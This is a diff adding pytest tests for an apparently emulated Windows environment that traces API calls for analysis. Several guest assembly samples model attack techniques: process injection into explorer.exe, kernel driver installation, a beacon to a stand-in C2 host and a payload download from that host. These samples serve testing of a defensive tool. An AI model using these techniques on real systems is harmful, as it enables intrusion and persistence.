@@ -1,0 +1,248 @@
+"""Process/thread/service/window/library/network/system API tests."""
+
+import pytest
+
+from repro.taint.labels import TaintClass
+from repro.winenv import IntegrityLevel, ServiceState, Win32Error
+
+MED = IntegrityLevel.MEDIUM
+
+
+class TestProcessApis:
+    def test_exit_process_terminates_run(self, run_asm):
+        cpu = run_asm("    push 7\n    call @ExitProcess\n    halt\n")
+        assert cpu.status.value == "terminated"
+        assert cpu.process.exit_code == 7
+
+    def test_exit_thread_terminates_single_threaded_guest(self, run_asm):
+        cpu = run_asm("    push 0\n    call @ExitThread\n    halt\n")
+        assert cpu.status.value == "terminated"
+
+    def test_find_process_returns_pid(self, run_asm, env):
+        cpu = run_asm(
+            '.section .rdata\nn: .asciz "explorer.exe"\n.section .text\n'
+            "    push n\n    call @FindProcessA\n    halt\n"
+        )
+        assert cpu.regs["eax"] == env.processes.find_by_name("explorer.exe").pid
+
+    def test_find_missing_process_fails(self, run_asm):
+        cpu = run_asm(
+            '.section .rdata\nn: .asciz "ghost.exe"\n.section .text\n'
+            "    push n\n    call @FindProcessA\n    halt\n"
+        )
+        assert cpu.regs["eax"] == 0
+
+    INJECT = (
+        '.section .rdata\nn: .asciz "explorer.exe"\npay: .asciz "XX"\n'
+        ".section .data\nh: .dword 0\n.section .text\n"
+        "    push n\n    call @FindProcessA\n"
+        "    push eax\n    push 0\n    push 0x1F0FFF\n    call @OpenProcess\n"
+        "    mov [h], eax\n"
+        "    push 0\n    push 2\n    push pay\n    push 0x7F000000\n    push [h]\n"
+        "    call @WriteProcessMemory\n"
+        "    push 0\n    push 0\n    push 0\n    push 0x7F000000\n    push 0\n    push 0\n    push [h]\n"
+        "    call @CreateRemoteThread\n    halt\n"
+    )
+
+    def test_injection_low_integrity_denied_by_system_process(self, run_asm):
+        cpu = run_asm(self.INJECT, integrity=IntegrityLevel.LOW)
+        wpm = cpu.trace.events_for_api("WriteProcessMemory")[0]
+        assert not wpm.success
+        assert wpm.error == int(Win32Error.ACCESS_DENIED)
+
+    def test_injection_records_remote_writes_at_system(self, run_asm, env):
+        cpu = run_asm(self.INJECT, integrity=IntegrityLevel.SYSTEM)
+        target = env.processes.find_by_name("explorer.exe")
+        assert target.remote_writes and target.remote_threads
+        wpm = cpu.trace.events_for_api("WriteProcessMemory")[0]
+        assert wpm.extra["target_process"] == "explorer.exe"
+
+    def test_create_process_spawns_child(self, run_asm, env):
+        env.filesystem.create("c:\\app.exe", MED, content=b"MZ")
+        cpu = run_asm(
+            '.section .rdata\np: .asciz "c:\\\\app.exe"\n'
+            ".section .data\ninfo: .space 8\n.section .text\n"
+            "    push info\n    push 0\n    push 0\n    push p\n    call @CreateProcessA\n    halt\n",
+            integrity=MED,
+        )
+        assert cpu.regs["eax"] == 1
+        assert env.processes.find_by_name("app.exe") is not None
+
+    def test_create_process_missing_image_fails(self, run_asm):
+        cpu = run_asm(
+            '.section .rdata\np: .asciz "c:\\\\none.exe"\n.section .text\n'
+            "    push 0\n    push 0\n    push 0\n    push p\n    call @CreateProcessA\n    halt\n"
+        )
+        assert cpu.regs["eax"] == 0
+
+
+class TestServiceApis:
+    INSTALL = (
+        '.section .rdata\nn: .asciz "drv1"\nb: .asciz "c:\\\\windows\\\\system32\\\\drivers\\\\d.sys"\n'
+        ".section .data\nscm: .dword 0\nsvc: .dword 0\n.section .text\n"
+        "    push 0xF003F\n    push 0\n    push 0\n    call @OpenSCManagerA\n"
+        "    mov [scm], eax\n"
+        "    push b\n    push 3\n    push 1\n    push n\n    push n\n    push [scm]\n"
+        "    call @CreateServiceA\n"
+        "    mov [svc], eax\n"
+        "    push 0\n    push 0\n    push [svc]\n    call @StartServiceA\n    halt\n"
+    )
+
+    def test_scm_denied_at_low_integrity(self, run_asm):
+        cpu = run_asm("    push 0xF003F\n    push 0\n    push 0\n    call @OpenSCManagerA\n    halt\n",
+                      integrity=IntegrityLevel.LOW)
+        assert cpu.regs["eax"] == 0
+
+    def test_driver_install_flow(self, run_asm, env):
+        cpu = run_asm(self.INSTALL, integrity=MED)
+        svc = env.services.lookup("drv1")
+        assert svc is not None and svc.is_kernel_driver
+        assert svc.state is ServiceState.RUNNING
+        create_event = cpu.trace.events_for_api("CreateServiceA")[0]
+        assert create_event.extra["kernel_driver"] is True
+
+    def test_open_missing_service(self, run_asm):
+        cpu = run_asm(
+            '.section .rdata\nn: .asciz "nosvc"\n.section .data\nscm: .dword 0\n.section .text\n'
+            "    push 0xF003F\n    push 0\n    push 0\n    call @OpenSCManagerA\n"
+            "    mov [scm], eax\n"
+            "    push 0xF003F\n    push n\n    push [scm]\n    call @OpenServiceA\n    halt\n",
+            integrity=MED,
+        )
+        assert cpu.regs["eax"] == 0
+        assert cpu.process.last_error == int(Win32Error.SERVICE_DOES_NOT_EXIST)
+
+
+class TestWindowLibraryApis:
+    def test_find_window_existing(self, run_asm):
+        cpu = run_asm(
+            '.section .rdata\nc: .asciz "Shell_TrayWnd"\n.section .text\n'
+            "    push 0\n    push c\n    call @FindWindowA\n    halt\n"
+        )
+        assert cpu.regs["eax"] >= 0x100
+
+    def test_find_window_missing(self, run_asm):
+        cpu = run_asm(
+            '.section .rdata\nc: .asciz "NoWnd"\n.section .text\n'
+            "    push 0\n    push c\n    call @FindWindowA\n    halt\n"
+        )
+        assert cpu.regs["eax"] == 0
+
+    def test_create_window_registers_class(self, run_asm, env):
+        run_asm(
+            '.section .rdata\nc: .asciz "MyWnd"\nt: .asciz "hi"\n.section .text\n'
+            "    push 0\n    push t\n    push c\n    call @CreateWindowExA\n    halt\n"
+        )
+        assert env.windows.exists("MyWnd")
+
+    def test_load_library_standard(self, run_asm):
+        cpu = run_asm(
+            '.section .rdata\nd: .asciz "uxtheme.dll"\n.section .text\n'
+            "    push d\n    call @LoadLibraryA\n    halt\n"
+        )
+        assert cpu.regs["eax"] >= 0x100
+
+    def test_load_library_missing(self, run_asm):
+        cpu = run_asm(
+            '.section .rdata\nd: .asciz "custom_evil.dll"\n.section .text\n'
+            "    push d\n    call @LoadLibraryA\n    halt\n"
+        )
+        assert cpu.regs["eax"] == 0
+
+    def test_get_proc_address_deterministic(self, run_asm):
+        src = (
+            '.section .rdata\nd: .asciz "kernel32.dll"\nf: .asciz "CreateFileA"\n.section .text\n'
+            "    push d\n    call @LoadLibraryA\n"
+            "    push f\n    push eax\n    call @GetProcAddress\n    halt\n"
+        )
+        a = run_asm(src).regs["eax"]
+        assert a >= 0x7C800000
+
+
+class TestNetworkApis:
+    BEACON = (
+        '.section .rdata\nh: .asciz "cc.badguy-domain.biz"\nmsg: .asciz "HI"\n'
+        ".section .data\ns: .dword 0\nbuf: .space 32\n.section .text\n"
+        "    push 6\n    push 1\n    push 2\n    call @socket\n"
+        "    mov [s], eax\n"
+        "    push 80\n    push h\n    push [s]\n    call @connect\n"
+        "    push 0\n    push 2\n    push msg\n    push [s]\n    call @send\n"
+        "    push 0\n    push 16\n    push buf\n    push [s]\n    call @recv\n"
+        "    push [s]\n    call @closesocket\n    halt\n"
+    )
+
+    def test_beacon_roundtrip(self, run_asm, env):
+        cpu = run_asm(self.BEACON)
+        assert env.network.bytes_sent_by(cpu.process.pid) == 2
+        text, _ = cpu.memory.read_cstring(cpu.program.labels["buf"])
+        assert text.startswith("HTTP/1.1")
+
+    def test_connect_unknown_host_fails(self, run_asm):
+        cpu = run_asm(
+            '.section .rdata\nh: .asciz "unknown.example"\n.section .data\ns: .dword 0\n.section .text\n'
+            "    push 6\n    push 1\n    push 2\n    call @socket\n"
+            "    mov [s], eax\n"
+            "    push 80\n    push h\n    push [s]\n    call @connect\n    halt\n"
+        )
+        assert cpu.regs["eax"] == 0xFFFFFFFF
+
+    def test_url_download_creates_file(self, run_asm, env):
+        run_asm(
+            '.section .rdata\nu: .asciz "http://cc.badguy-domain.biz/p.bin"\n'
+            'f: .asciz "c:\\\\windows\\\\temp\\\\p.bin"\n.section .text\n'
+            "    push f\n    push u\n    push 0\n    call @URLDownloadToFileA\n    halt\n"
+        )
+        assert env.filesystem.exists("c:\\windows\\temp\\p.bin")
+
+    def test_dns_query_unknown(self, run_asm):
+        cpu = run_asm(
+            '.section .rdata\nh: .asciz "bad.unknown"\n.section .text\n'
+            "    push h\n    call @DnsQuery_A\n    halt\n"
+        )
+        assert cpu.regs["eax"] == 9003
+
+
+class TestSystemApis:
+    def test_computer_name_written(self, run_asm, env):
+        cpu = run_asm(
+            ".section .data\nb: .space 32\n.section .text\n"
+            "    push 0\n    push b\n    call @GetComputerNameA\n    halt\n"
+        )
+        text, _ = cpu.memory.read_cstring(cpu.program.labels["b"])
+        assert text == env.identity.computer_name
+
+    def test_user_name_env_tainted(self, run_asm):
+        cpu = run_asm(
+            ".section .data\nb: .space 32\n.section .text\n"
+            "    push 0\n    push b\n    call @GetUserNameA\n    halt\n"
+        )
+        _, taints = cpu.memory.read_cstring(cpu.program.labels["b"])
+        assert all(any(t.klass is TaintClass.ENV_DETERMINISTIC for t in ts) for ts in taints)
+
+    def test_volume_serial(self, run_asm, env):
+        cpu = run_asm(
+            ".section .data\nv: .space 4\n.section .text\n"
+            "    push v\n    push 0\n    call @GetVolumeInformationA\n    halt\n"
+        )
+        value, tags = cpu.memory.read_u32(cpu.program.labels["v"])
+        assert value == env.identity.volume_serial and tags
+
+    def test_tick_count_varies_within_run(self, run_asm):
+        cpu = run_asm("    call @GetTickCount\n    mov ebx, eax\n"
+                      "    call @GetTickCount\n    halt\n")
+        assert cpu.regs["eax"] != cpu.regs["ebx"]
+
+    def test_sleep_and_last_error_roundtrip(self, run_asm):
+        cpu = run_asm("    push 100\n    call @Sleep\n"
+                      "    push 0x57\n    call @SetLastError\n"
+                      "    call @GetLastError\n    halt\n")
+        assert cpu.regs["eax"] == 0x57
+
+    def test_get_environment_variable(self, run_asm, env):
+        cpu = run_asm(
+            '.section .rdata\nn: .asciz "COMPUTERNAME"\n'
+            ".section .data\nb: .space 32\n.section .text\n"
+            "    push 32\n    push b\n    push n\n    call @GetEnvironmentVariableA\n    halt\n"
+        )
+        text, _ = cpu.memory.read_cstring(cpu.program.labels["b"])
+        assert text == env.identity.computer_name
